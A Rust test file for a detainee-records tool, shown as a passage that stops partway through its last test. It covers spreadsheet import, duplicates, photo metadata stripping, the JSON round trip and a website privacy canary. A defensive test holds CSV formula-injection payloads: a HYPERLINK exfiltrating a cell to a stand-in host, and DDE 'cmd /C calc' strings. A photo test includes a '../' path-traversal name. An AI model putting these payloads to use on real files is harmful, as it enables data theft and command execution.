@@ -1,0 +1,745 @@
+//! Import, exports and the website feed: files as people really save them, all-or-nothing imports, duplicates,
+//! formula injection, the lossless JSON round trip, and a canary proving the website feed holds nothing private.
+//! All names and data are fictional.
+
+use std::path::Path;
+
+use dossier::exchange::{self, json, DuplicatePolicy, ImportOptions};
+use dossier::model::{
+    Category, CommitmentKind, Consent, Contact, Detainee, Disclosure, PublicItem, Sponsor, SponsorKind, Sponsorship,
+    Stage, Status,
+};
+use dossier::{Dossier, Lang};
+
+use crate::util::*;
+
+fn new_dossier(dir: &Path, name: &str) -> Dossier {
+    Dossier::create(&dir.join(name), PASS).expect("create")
+}
+
+fn opts() -> ImportOptions {
+    ImportOptions { lang: Lang::En, ..Default::default() }
+}
+
+fn names_of(d: &Dossier) -> Vec<String> {
+    d.list::<Detainee>().unwrap().into_iter().map(|p| p.data.name).collect()
+}
+
+const HEADER_FR: &str = "Nom;Nom arménien;Catégorie;Date de naissance;Date de capture;Lieu de capture;Statut";
+
+/// French Excel's "CSV (séparateur : point-virgule)": Windows-1252, semicolons, CRLF, quotes where needed.
+fn french_rows() -> Vec<&'static str> {
+    vec![
+        "Lévon Exemplian;;prisonnier de guerre;09/11/1990;12/11/2020;Hadrut (exemple);détenu",
+        "\"Anaït Fictivian; dite « Ani »\";;civil;1985-03-02;2020-12-13;\"Khtsaberd, village\";condamnée",
+        "Garéguine Inventé;;dirigeant politique;1961;2023-10;Stepanakert (exemple);en procès",
+        "Héghiné Imaginaire;;disparu;;~2020-11-01;;sort inconnu",
+    ]
+}
+
+#[test]
+fn csv_in_every_encoding_and_delimiter_gives_the_same_people() {
+    let dir = tempfile::tempdir().unwrap();
+    let text_semi = format!("{HEADER_FR}\r\n{}\r\n", french_rows().join("\r\n"));
+    let (cp1252, _, unmappable) = encoding_rs::WINDOWS_1252.encode(&text_semi);
+    assert!(!unmappable);
+    // The same rows with commas (LibreOffice's default), re-quoted.
+    let to_commas = |line: &str| -> String {
+        let mut rdr = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(line.as_bytes());
+        let rec = rdr.records().next().unwrap().unwrap();
+        let mut w = csv::Writer::from_writer(vec![]);
+        w.write_record(&rec).unwrap();
+        String::from_utf8(w.into_inner().unwrap()).unwrap().trim_end().to_owned()
+    };
+    let mut text_comma = to_commas(HEADER_FR) + "\n";
+    for r in french_rows() {
+        text_comma += &(to_commas(r) + "\n");
+    }
+    let to_tabs = |line: &str| line.replace(';', "\t").replace("\"Anaït Fictivian\t dite", "\"Anaït Fictivian; dite");
+    let text_tab = format!("{}\r\n{}\r\n", to_tabs(HEADER_FR), french_rows().into_iter().map(to_tabs).collect::<Vec<_>>().join("\r\n"));
+    let mut utf16 = vec![0xFF, 0xFE];
+    for u in text_tab.encode_utf16() {
+        utf16.extend_from_slice(&u.to_le_bytes());
+    }
+    let variants: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("windows-1252-semicolon-crlf.csv", cp1252.into_owned(), "Windows-1252, semicolon"),
+        ("utf8-bom-semicolon-crlf.csv", [b"\xEF\xBB\xBF".as_slice(), text_semi.as_bytes()].concat(), "UTF-8 (BOM), semicolon"),
+        ("utf8-comma-lf.csv", text_comma.clone().into_bytes(), "UTF-8, comma"),
+        ("utf8-bom-comma-lf.csv", [b"\xEF\xBB\xBF".as_slice(), text_comma.as_bytes()].concat(), "UTF-8 (BOM), comma"),
+        ("utf16-tab.txt", utf16, "UTF-16LE, tab"),
+    ];
+    let mut reference: Option<Vec<Detainee>> = None;
+    for (i, (name, bytes, detected)) in variants.into_iter().enumerate() {
+        let path = dir.path().join(name);
+        write(&path, &bytes);
+        let mut d = new_dossier(dir.path(), &format!("{i}.dossier"));
+        let report = exchange::import_spreadsheet(&mut d, &path, &opts()).unwrap_or_else(|e| panic!("{name}: {e}"));
+        assert_eq!(report.sheets[0].detected.as_deref(), Some(detected), "{name}");
+        assert_eq!(report.summary.create, 4, "{name}");
+        assert_eq!(report.rows.iter().map(|r| r.line).collect::<Vec<_>>(), vec![2, 3, 4, 5], "{name}: line numbers");
+        let people: Vec<Detainee> = d.list::<Detainee>().unwrap().into_iter().map(|p| p.data).collect();
+        match &reference {
+            None => reference = Some(people),
+            Some(r) => assert_eq!(&people, r, "{name} must read exactly like the others"),
+        }
+    }
+    let people = reference.unwrap();
+    let ani = people.iter().find(|p| p.name.starts_with("Anaït")).unwrap();
+    assert_eq!(ani.name, "Anaït Fictivian; dite « Ani »", "quoted separator and non-ASCII kept");
+    assert_eq!(ani.category, Category::Civilian);
+    assert_eq!(ani.status(), Some(Status::Sentenced));
+    let levon = people.iter().find(|p| p.name.starts_with("Lévon")).unwrap();
+    assert_eq!(levon.born.unwrap().to_string(), "1990-11-09", "DD/MM/YYYY is day first");
+    assert_eq!(levon.category, Category::PrisonerOfWar);
+    let g = people.iter().find(|p| p.name.starts_with("Garéguine")).unwrap();
+    assert_eq!((g.category, g.status(), g.born.unwrap().to_string()), (Category::PoliticalLeader, Some(Status::OnTrial), "1961".into()));
+    let h = people.iter().find(|p| p.name.starts_with("Héghiné")).unwrap();
+    assert_eq!((h.category, h.status(), h.captured.unwrap().to_string()), (Category::Disappeared, Some(Status::FateUnknown), "~2020-11-01".into()));
+}
+
+#[test]
+fn english_headers_and_values_are_recognised_too() {
+    let env = Env::init();
+    let csv = "name,armenian name,category,born,captured,status,notes\n\
+               Aram Exampleyan,Արամ Օրինակյան,prisoner of war,1999-01-02,2020-11-12,sentenced,fictional\n\
+               Lilit Sampleyan,,civilian,02/03/1980,,released,\n";
+    write(&env.path("en.csv"), csv.as_bytes());
+    let out = env.ok(&["import", env.path("en.csv").to_str().unwrap()]);
+    assert!(out.contains("2 created"), "{out}");
+    let list = env.json(&["detainee", "list", "--json"]);
+    let aram = list.as_array().unwrap().iter().find(|p| p["name"] == "Aram Exampleyan").unwrap();
+    assert_eq!(aram["name_hy"], "Արամ Օրինակյան");
+    assert_eq!(aram["notes"], "fictional");
+}
+
+#[test]
+fn broken_rows_import_nothing_and_each_is_named() {
+    let env = Env::init();
+    env.id(&["detainee", "add", "--name", "Already Here", "--category", "pow"]);
+    let csv = "Nom;Catégorie;Date de naissance;Date de capture\r\n\
+               Valid Person;civil;1990-01-01;2020-11-12\r\n\
+               Bad Date;civil;31/02/1990;\r\n\
+               Bad Category;astronaute;;\r\n\
+               Before Birth;pow;2001-05-05;1999-01-01\r\n\
+               ;civil;;\r\n";
+    let file = env.path("broken.csv");
+    write(&file, csv.as_bytes());
+    let err = env.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(err.contains("Nothing was imported"), "{err}");
+    assert!(err.contains("line 3") && err.contains("31/02/1990"), "{err}");
+    assert!(err.contains("line 4") && err.contains("astronaute"), "{err}");
+    assert!(err.contains("line 5") && err.contains("capture date is before the birth date"), "{err}");
+    assert!(err.contains("line 6") && err.contains("cannot be empty"), "{err}");
+    let list = env.json(&["detainee", "list", "--json"]);
+    assert_eq!(list.as_array().unwrap().len(), 1, "one bad row imports nothing");
+
+    // The dry run reports row by row, as JSON too, and exits 1 because the import would be refused.
+    let out = env.run(&["import", file.to_str().unwrap(), "--dry-run", "--json"]);
+    assert_eq!(out.status.code(), Some(1));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let actions: Vec<(u64, &str)> =
+        report["rows"].as_array().unwrap().iter().map(|r| (r["line"].as_u64().unwrap(), r["action"].as_str().unwrap())).collect();
+    assert_eq!(actions, vec![(2, "create"), (3, "error"), (4, "error"), (5, "error"), (6, "error")]);
+    assert_eq!(report["rows"][1]["errors"][0]["column"], "Date de naissance");
+    assert_eq!(report["sheets"][0]["columns"][0], serde_json::json!(["Nom", "name"]));
+    // French messages when the user speaks French.
+    let out = env.cmd(&["import", file.to_str().unwrap()]).env("LANG", "fr_FR.UTF-8").output().unwrap();
+    let fr = String::from_utf8_lossy(&out.stderr);
+    assert!(fr.contains("Rien n'a été importé") && fr.contains("ligne 3"), "{fr}");
+}
+
+#[test]
+fn dry_run_saves_nothing_and_shows_the_mapping() {
+    let env = Env::init();
+    let file = env.path("list.csv");
+    write(&file, "Nom complet;Type;Remarque\nAram Dryrun;pg;note\n".as_bytes());
+    let before = std::fs::read(&env.db).unwrap();
+    let out = env.ok(&["import", file.to_str().unwrap(), "--dry-run", "--map", "Nom complet=name", "--map", "Remarque="]);
+    assert!(out.contains("\"Nom complet\" → name"), "{out}");
+    assert!(out.contains("\"Remarque\" → (ignored)"), "{out}");
+    assert!(out.contains("create  Aram Dryrun"), "{out}");
+    assert_eq!(env.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 0);
+    assert_eq!(std::fs::read(&env.db).unwrap(), before, "a dry run writes nothing");
+    // A mapping to an unknown field or from a missing column is refused, naming it.
+    let err = env.fails(&["import", file.to_str().unwrap(), "--map", "Nom complet=nickname"], 1);
+    assert!(err.contains("nickname"), "{err}");
+    let err = env.fails(&["import", file.to_str().unwrap(), "--map", "Surnom=name"], 1);
+    assert!(err.contains("Surnom"), "{err}");
+}
+
+#[test]
+fn spreadsheet_updates_records_matched_by_id() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut d = new_dossier(dir.path(), "u.dossier");
+    let mut p = Detainee::new("Aram Updateyan", Category::PrisonerOfWar);
+    p.birth_place = Some("Goris (exemple)".into());
+    p.notes = Some("keep me".into());
+    let id = d.insert(p).unwrap().id;
+    let csv_path = dir.path().join("export.csv");
+    exchange::export_csv(&d, dossier::model::RecordKind::Detainee, &csv_path, true, false).unwrap();
+    // Re-importing an untouched export changes nothing.
+    let r = exchange::import_spreadsheet(&mut d, &csv_path, &opts()).unwrap();
+    assert_eq!((r.summary.skip, r.summary.update, r.summary.create), (1, 0, 0));
+    // A sheet with only some columns: the id, a new status and place; empty cells leave fields alone.
+    let upd = dir.path().join("update.csv");
+    write(&upd, format!("id;statut;lieu de naissance;notes\n{id};condamné;Sisian (exemple);\n").as_bytes());
+    let r = exchange::import_spreadsheet(&mut d, &upd, &opts()).unwrap();
+    assert_eq!(r.rows[0].action, exchange::import::Action::Update);
+    assert_eq!(r.rows[0].changes, vec!["birth_place".to_owned(), "situation".to_owned()]);
+    let after = d.get::<Detainee>(id).unwrap();
+    assert_eq!(after.status(), Some(Status::Sentenced));
+    assert_eq!(after.birth_place.as_deref(), Some("Sisian (exemple)"));
+    assert_eq!(after.notes.as_deref(), Some("keep me"), "an empty cell erases nothing");
+    assert!(d.history(id).unwrap().iter().any(|c| c.field == "birth_place" && c.action == "update"));
+    // An id that is not in this dossier is an error naming it.
+    write(&upd, "id;nom\n00000000-0000-4000-8000-000000000000;Nobody\n".as_bytes());
+    let e = exchange::import_spreadsheet(&mut d, &upd, &opts()).unwrap_err();
+    assert!(e.message(Lang::En).contains("00000000-0000-4000-8000-000000000000"), "{}", e.message(Lang::En));
+}
+
+#[test]
+fn possible_duplicates_are_shown_never_silently_doubled() {
+    let env = Env::init();
+    let aram = env.id(&["detainee", "add", "--name", "Aram Haroutiounian", "--name-hy", "Արամ Հարությունյան", "--category", "pow", "--born", "1995-04-01"]);
+    let file = env.path("dups.csv");
+    let rows = "name,category,born\n\
+                Harutyunyan Aram,pow,1995-04-01\n\
+                Арам Арутюнян,pow,1995-04-01\n\
+                ARAM HAROUTIOUNIAN,civilian,1960-01-01\n\
+                Nune Newperson,civilian,\n\
+                Nouné Newperson,civilian,\n";
+    write(&file, rows.as_bytes());
+    let err = env.fails(&["import", file.to_str().unwrap()], 1);
+    assert!(err.contains("0 rows with errors, 3 possible duplicates"), "{err}");
+    assert!(err.contains(&aram), "the existing record's id is named: {err}");
+    let report = env.run(&["import", file.to_str().unwrap(), "--dry-run", "--json"]);
+    let report: serde_json::Value = serde_json::from_slice(&report.stdout).unwrap();
+    let dups: Vec<usize> = report["rows"].as_array().unwrap().iter().map(|r| r["duplicates"].as_array().unwrap().len()).collect();
+    // Latin spelling and Cyrillic script match the existing person; a different birth date rules it out; the
+    // fifth row doubles the fourth.
+    assert_eq!(dups, vec![1, 2, 0, 0, 1]);
+    assert_eq!(report["rows"][0]["duplicates"][0]["id"], aram.as_str());
+    assert_eq!(report["rows"][4]["duplicates"][0]["line"], 5);
+    assert_eq!(env.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 1);
+
+    let out = env.ok(&["import", file.to_str().unwrap(), "--skip-duplicates"]);
+    assert!(out.contains("2 created") && out.contains("3 skipped"), "{out}");
+    assert_eq!(env.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 3);
+    // Resolving by giving the existing id updates that record instead.
+    write(&env.path("merge.csv"), format!("id,name,category,other names\n{aram},Aram Haroutiounian,pow,Арам Арутюнян\n").as_bytes());
+    let out = env.ok(&["import", env.path("merge.csv").to_str().unwrap()]);
+    assert!(out.contains("1 updated"), "{out}");
+    let shown = env.json(&["detainee", "show", &aram, "--json"]);
+    assert_eq!(shown["other_names"][0], "Арам Арутюнян");
+}
+
+#[test]
+fn photos_come_from_a_folder_without_their_metadata() {
+    let env = Env::init();
+    let photos = env.path("photos");
+    std::fs::create_dir(&photos).unwrap();
+    write(&photos.join("Aram.JPG"), &jpeg_with_exif(64, 48, "GPS-CANARY-HOME"));
+    let file = env.path("with-photos.csv");
+    write(&file, "nom;catégorie;photo\nAram Photoyan;pg;aram.jpg\n".as_bytes());
+    let out = env.ok(&["import", file.to_str().unwrap(), "--photos", photos.to_str().unwrap()]);
+    assert!(out.contains("1 created"), "{out}");
+    let id = env.json(&["detainee", "list", "--json"])[0]["id"].as_str().unwrap().to_owned();
+    let ph = env.json(&["photo", "list", "--detainee", &id, "--json"]);
+    assert_eq!(ph.as_array().unwrap().len(), 1);
+    let out_img = env.path("back.jpg");
+    env.ok(&["photo", "export", ph[0]["id"].as_str().unwrap(), "-o", out_img.to_str().unwrap()]);
+    assert!(!contains(&std::fs::read(&out_img).unwrap(), b"GPS-CANARY-HOME"));
+    // Importing the same row again by id does not double the photo.
+    write(&file, format!("id;photo\n{id};Aram.JPG\n").as_bytes());
+    let out = env.ok(&["import", file.to_str().unwrap(), "--photos", photos.to_str().unwrap()]);
+    assert!(out.contains("1 skipped"), "{out}");
+    // A missing or broken photo refuses the import, naming the row and the file; names cannot climb out.
+    write(&photos.join("broken.jpg"), b"not a jpeg at all");
+    write(&file, "nom;catégorie;photo\nNo Photo;civil;absent.jpg\nBroken Photo;civil;broken.jpg\nSneaky;civil;../with-photos.csv\n".as_bytes());
+    let err = env.fails(&["import", file.to_str().unwrap(), "--photos", photos.to_str().unwrap()], 1);
+    assert!(err.contains("line 2") && err.contains("absent.jpg"), "{err}");
+    assert!(err.contains("line 3") && err.contains("broken.jpg"), "{err}");
+    assert!(err.contains("line 4"), "{err}");
+    assert_eq!(env.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 1);
+}
+
+#[test]
+fn xlsx_with_detainee_and_sponsor_sheets_imports() {
+    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
+    let env = Env::init();
+    let path = env.path("liste.xlsx");
+    let mut book = Workbook::new();
+    let date = Format::new().set_num_format("dd/mm/yyyy");
+    let ws = book.add_worksheet().set_name("Détenus").unwrap();
+    for (c, h) in ["Nom", "Nom arménien", "Catégorie", "Date de naissance", "Date de capture", "Statut"].iter().enumerate() {
+        ws.write_string(0, c as u16, *h).unwrap();
+    }
+    ws.write_string(1, 0, "Sevak Tableurian").unwrap();
+    ws.write_string(1, 1, "Սևակ Տաբլերյան").unwrap();
+    ws.write_string(1, 2, "Prisonnier de guerre").unwrap();
+    ws.write_datetime_with_format(1, 3, ExcelDateTime::from_ymd(1998, 7, 14).unwrap(), &date).unwrap();
+    ws.write_string(1, 4, "13/12/2020").unwrap();
+    ws.write_string(1, 5, "Détenu").unwrap();
+    ws.write_string(2, 0, "Tigran Cellule").unwrap();
+    ws.write_string(2, 2, "civil").unwrap();
+    ws.write_number(2, 3, 1975).unwrap();
+    let ws = book.add_worksheet().set_name("Parrains").unwrap();
+    for (c, h) in ["Nom", "Type", "Ville", "Pays", "Signataire", "Titre du signataire"].iter().enumerate() {
+        ws.write_string(0, c as u16, *h).unwrap();
+    }
+    for (c, v) in ["Ville de Fictiveville", "mairie", "Fictiveville", "France", "Jeanne Exemple", "Maire"].iter().enumerate() {
+        ws.write_string(1, c as u16, *v).unwrap();
+    }
+    book.save(&path).unwrap();
+    let out = env.ok(&["import", path.to_str().unwrap(), "--dry-run"]);
+    assert!(out.contains("[Détenus]") && out.contains("[Parrains]"), "{out}");
+    assert!(out.contains("     2  create  Sevak Tableurian") && out.contains("     3  create  Tigran Cellule"), "{out}");
+    env.ok(&["import", path.to_str().unwrap()]);
+    let people = env.json(&["detainee", "list", "--json"]);
+    let sevak = people.as_array().unwrap().iter().find(|p| p["name"] == "Sevak Tableurian").unwrap();
+    assert_eq!(sevak["born"], "1998-07-14", "a real Excel date cell");
+    assert_eq!(sevak["captured"], "2020-12-13");
+    assert_eq!(sevak["category"], "pow");
+    let tigran = people.as_array().unwrap().iter().find(|p| p["name"] == "Tigran Cellule").unwrap();
+    assert_eq!(tigran["born"], "1975", "a year typed as a number");
+    let sponsors = env.json(&["sponsor", "list", "--json"]);
+    assert_eq!(sponsors[0]["kind"], "city");
+    assert_eq!(sponsors[0]["signatory"]["title"], "Maire");
+
+    // Our own XLSX export (a sheet per record type, every row with its id) imports back as "unchanged".
+    let x = env.path("export.xlsx");
+    env.ok(&["export", "xlsx", "-o", x.to_str().unwrap()]);
+    let out = env.ok(&["import", x.to_str().unwrap()]);
+    assert!(out.contains("0 created, 0 updated, 3 skipped"), "{out}");
+    use calamine::Reader;
+    let mut wb = calamine::open_workbook_auto(&x).unwrap();
+    assert_eq!(wb.sheet_names(), vec!["Detainees", "Sponsors", "Sponsorships"]);
+    let r = wb.worksheet_range("Detainees").unwrap();
+    assert_eq!(r.get((0, 0)).unwrap().to_string(), "id");
+    for row in r.rows().skip(1) {
+        assert!(uuid::Uuid::parse_str(&row[0].to_string()).is_ok(), "every row carries its id");
+    }
+}
+
+/// A minimal ZIP writer (stored entries), enough for an OpenDocument spreadsheet.
+fn zip_stored(files: &[(&str, &[u8])]) -> Vec<u8> {
+    fn crc32(data: &[u8]) -> u32 {
+        let mut crc = 0xFFFF_FFFFu32;
+        for b in data {
+            crc ^= u32::from(*b);
+            for _ in 0..8 {
+                crc = if crc & 1 != 0 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
+            }
+        }
+        !crc
+    }
+    let (mut out, mut central) = (vec![], vec![]);
+    for (name, data) in files {
+        let offset = out.len() as u32;
+        let crc = crc32(data);
+        let head = |sig: u32, central: bool| {
+            let mut h = sig.to_le_bytes().to_vec();
+            if central {
+                h.extend_from_slice(&20u16.to_le_bytes());
+            }
+            for v in [20u16, 0, 0, 0, 0] {
+                h.extend_from_slice(&v.to_le_bytes());
+            }
+            h.extend_from_slice(&crc.to_le_bytes());
+            h.extend_from_slice(&(data.len() as u32).to_le_bytes());
+            h.extend_from_slice(&(data.len() as u32).to_le_bytes());
+            h.extend_from_slice(&(name.len() as u16).to_le_bytes());
+            h.extend_from_slice(&0u16.to_le_bytes());
+            if central {
+                for v in [0u16, 0, 0] {
+                    h.extend_from_slice(&v.to_le_bytes());
+                }
+                h.extend_from_slice(&0u32.to_le_bytes());
+                h.extend_from_slice(&offset.to_le_bytes());
+            }
+            h.extend_from_slice(name.as_bytes());
+            h
+        };
+        out.extend(head(0x0403_4b50, false));
+        out.extend_from_slice(data);
+        central.extend(head(0x0201_4b50, true));
+    }
+    let (cd_offset, cd_len) = (out.len() as u32, central.len() as u32);
+    out.extend(central);
+    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
+    for v in [0u16, 0, files.len() as u16, files.len() as u16] {
+        out.extend_from_slice(&v.to_le_bytes());
+    }
+    out.extend_from_slice(&cd_len.to_le_bytes());
+    out.extend_from_slice(&cd_offset.to_le_bytes());
+    out.extend_from_slice(&0u16.to_le_bytes());
+    out
+}
+
+#[test]
+fn ods_from_libreoffice_imports() {
+    let env = Env::init();
+    let cell = |v: &str| format!("<table:table-cell office:value-type=\"string\"><text:p>{v}</text:p></table:table-cell>");
+    let date = |v: &str| format!("<table:table-cell office:value-type=\"date\" office:date-value=\"{v}\"><text:p>{v}</text:p></table:table-cell>");
+    let row = |cells: Vec<String>| format!("<table:table-row>{}</table:table-row>", cells.concat());
+    let content = format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:spreadsheet><table:table table:name="Feuille1">{}{}{}</table:table></office:spreadsheet></office:body></office:document-content>"#,
+        row(vec![cell("Nom"), cell("Catégorie"), cell("Date de naissance"), cell("Statut")]),
+        row(vec![cell("Ani Libreoffician"), cell("civile"), date("1979-05-28"), cell("libérée")]),
+        row(vec![cell("Vahé Calcian"), cell("disparu"), cell("03/04/1990"), cell("sort inconnu")]),
+    );
+    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?>
+<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;
+    let ods = zip_stored(&[
+        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
+        ("META-INF/manifest.xml", manifest.as_bytes()),
+        ("content.xml", content.as_bytes()),
+    ]);
+    let path = env.path("liste.ods");
+    write(&path, &ods);
+    let out = env.ok(&["import", path.to_str().unwrap()]);
+    assert!(out.contains("2 created"), "{out}");
+    let people = env.json(&["detainee", "list", "--json"]);
+    let ani = people.as_array().unwrap().iter().find(|p| p["name"] == "Ani Libreoffician").unwrap();
+    assert_eq!((ani["born"].as_str(), ani["category"].as_str()), (Some("1979-05-28"), Some("civilian")));
+}
+
+#[test]
+fn a_malformed_file_is_a_clear_error() {
+    let env = Env::init();
+    let fake = env.path("fake.xlsx");
+    write(&fake, b"PK\x03\x04 this is not really a workbook");
+    let err = env.fails(&["import", fake.to_str().unwrap()], 1);
+    assert!(err.contains("fake.xlsx"), "{err}");
+    let bin = env.path("photo.csv");
+    write(&bin, &[0xFF, 0xD8, 0xFF, 0, 0, 0, 1, 2]);
+    let err = env.fails(&["import", bin.to_str().unwrap()], 1);
+    assert!(err.contains("photo.csv"), "{err}");
+    let nohead = env.path("noname.csv");
+    write(&nohead, b"colour,size\nred,3\n");
+    let err = env.fails(&["import", nohead.to_str().unwrap(), "--kind", "detainee"], 1);
+    assert!(err.contains("no name column"), "{err}");
+    let err = env.fails(&["import", env.path("absent.csv").to_str().unwrap()], 1);
+    assert!(err.contains("absent.csv"), "{err}");
+}
+
+#[test]
+fn csv_export_neutralises_formulas_and_round_trips() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut d = new_dossier(dir.path(), "f.dossier");
+    let nasty = [
+        "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Click\")",
+        "+33 6 00 00 00 00",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+    ];
+    for (i, n) in nasty.iter().enumerate() {
+        let mut p = Detainee::new(*n, Category::Civilian);
+        p.notes = Some(format!("={i}+1"));
+        p.birth_place = Some("Normal place".into());
+        d.insert(p).unwrap();
+    }
+    for semicolon in [false, true] {
+        let path = dir.path().join(format!("out-{semicolon}.csv"));
+        exchange::export_csv(&d, dossier::model::RecordKind::Detainee, &path, semicolon, false).unwrap();
+        let bytes = std::fs::read(&path).unwrap();
+        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for Excel");
+        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
+        assert!(text.contains("\r\n"));
+        let mut rdr = csv::ReaderBuilder::new().delimiter(if semicolon { b';' } else { b',' }).from_reader(text.as_bytes());
+        let mut rows = 0;
+        for rec in rdr.records() {
+            let rec = rec.unwrap();
+            assert!(uuid::Uuid::parse_str(&rec[0]).is_ok(), "every row carries its id");
+            for c in rec.iter() {
+                assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell could run as a formula: {c:?}");
+            }
+            rows += 1;
+        }
+        assert_eq!(rows, nasty.len());
+        // Read back, the values are exactly what was stored: every row is unchanged.
+        let r = exchange::import_spreadsheet(&mut d, &path, &opts()).unwrap();
+        assert_eq!(r.summary.skip, nasty.len(), "{:?}", r.rows);
+    }
+    for c in ["=1", "+1", "-1", "@a", "\tx", "\rx"] {
+        assert!(exchange::export::neutralise(c).starts_with('\''));
+    }
+    assert_eq!(exchange::export::neutralise("Aram"), "Aram");
+    // And into a new dossier, the names come back as they were.
+    let mut fresh = new_dossier(dir.path(), "g.dossier");
+    let csv = dir.path().join("out-false.csv");
+    let mut o = opts();
+    o.mapping = vec![("id".into(), String::new())];
+    exchange::import_spreadsheet(&mut fresh, &csv, &o).unwrap();
+    let mut a = names_of(&fresh);
+    let mut b: Vec<String> = nasty.iter().map(|s| s.to_string()).collect();
+    a.sort();
+    b.sort();
+    assert_eq!(a, b);
+}
+
+fn sample(dir: &Path, name: &str) -> Dossier {
+    let mut d = new_dossier(dir, name);
+    dossier::demo::fill(&mut d, 0).unwrap();
+    d
+}
+
+#[test]
+fn json_export_imports_back_losslessly() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut a = sample(dir.path(), "a.dossier");
+    let someone = a.list::<Detainee>().unwrap()[0].id;
+    a.insert(Contact {
+        detainee_id: someone,
+        name: "Mère (fictive)".into(),
+        relation: Some("mère".into()),
+        phone: Some("+374 00 000 000".into()),
+        email: None,
+        address: None,
+        languages: vec!["hy".into()],
+        notes: None,
+    })
+    .unwrap();
+    a.edit::<Detainee>(someone, &[("status".into(), "released".into())]).unwrap();
+    let path = dir.path().join("full.json");
+    let n = exchange::export_json(&a, &path, false).unwrap();
+    assert!(n > 30, "{n}");
+    let mut b = new_dossier(dir.path(), "b.dossier");
+    let r = exchange::import_json(&mut b, &path, false).unwrap();
+    assert!(r.applied);
+    let (sa, sb) = (json::snapshot(&a).unwrap(), json::snapshot(&b).unwrap());
+    assert_eq!(sa.detainees, sb.detainees);
+    assert_eq!(sa.contacts, sb.contacts);
+    assert_eq!(sa.media, sb.media, "photos and logos byte for byte");
+    assert_eq!(sa.sponsors, sb.sponsors);
+    assert_eq!(sa.sponsorships, sb.sponsorships);
+    assert_eq!(sa.events, sb.events);
+    assert_eq!(sa.sources, sb.sources);
+    assert_eq!(sa.press_releases, sb.press_releases);
+    assert_eq!(sa.profiles, sb.profiles);
+    let strip = |h: &[dossier::store::Change]| h.iter().map(|c| dossier::store::Change { seq: 0, ..c.clone() }).collect::<Vec<_>>();
+    assert_eq!(strip(&sb.history[..sa.history.len()]), strip(&sa.history), "the whole history comes along, in order");
+    // Search and the generated columns work on the imported copy.
+    assert_eq!(a.search("Արամ", 50).unwrap().len(), b.search("Արամ", 50).unwrap().len());
+    assert_eq!(a.counts().unwrap().by_status, b.counts().unwrap().by_status);
+    // Importing the same export again is refused whole: nothing doubles.
+    let before = b.list::<Detainee>().unwrap().len();
+    let e = exchange::import_json(&mut b, &path, false).unwrap_err();
+    assert_eq!(e.code(), "id_taken");
+    assert_eq!(b.list::<Detainee>().unwrap().len(), before);
+    // A file from a newer schema is refused with a clear message.
+    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    v["schema_version"] = 99.into();
+    let newer = dir.path().join("newer.json");
+    write(&newer, v.to_string().as_bytes());
+    let mut c = new_dossier(dir.path(), "c.dossier");
+    let e = exchange::import_json(&mut c, &newer, false).unwrap_err();
+    assert!(e.message(Lang::En).contains("schema version 99"), "{}", e.message(Lang::En));
+}
+
+#[test]
+fn json_round_trip_through_the_command_line() {
+    let env = Env::init();
+    env.ok(&["demo"]);
+    let out = env.path("all.json");
+    let run = env.run(&["export", "json", "-o", out.to_str().unwrap()]);
+    assert!(run.status.success());
+    assert!(String::from_utf8_lossy(&run.stderr).contains("NOT encrypted"), "the user is warned");
+    let env2 = Env::init();
+    env2.ok(&["import", out.to_str().unwrap()]);
+    assert_eq!(env.json(&["detainee", "list", "--json"]), env2.json(&["detainee", "list", "--json"]));
+    assert_eq!(env.json(&["sponsorship", "list", "--json"]), env2.json(&["sponsorship", "list", "--json"]));
+}
+
+const CANARY: &str = "PRIVATE-CANARY-7d1f";
+
+#[test]
+fn website_feed_holds_nothing_private() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut d = new_dossier(dir.path(), "w.dossier");
+    let c = |s: &str| format!("{s} {CANARY}");
+    // A public person with private items full of the canary.
+    let mut p = Detainee::new("Aram Publicyan", Category::PrisonerOfWar);
+    p.name_hy = Some(c("Արամ"));
+    p.other_names = vec![c("Other")];
+    p.birth_place = Some(c("Birthplace"));
+    p.bio_en = Some("Public biography (fictional).".into());
+    p.bio_fr = Some("Biographie publique (fictive).".into());
+    p.circumstances = Some(c("Circumstances"));
+    p.notes = Some(c("Notes"));
+    p.captured = "2020-11-12".parse().ok();
+    p.disclosure.insert(PublicItem::Name, Disclosure::PUBLIC);
+    p.disclosure.insert(PublicItem::Biography, Disclosure::PUBLIC);
+    p.disclosure.insert(PublicItem::Capture, Disclosure::PUBLIC);
+    // Public but not consented: stays out.
+    p.disclosure.insert(PublicItem::Circumstances, Disclosure { public: true, consent: Consent::Unknown });
+    p.disclosure.insert(PublicItem::NameHy, Disclosure { public: true, consent: Consent::Withdrawn });
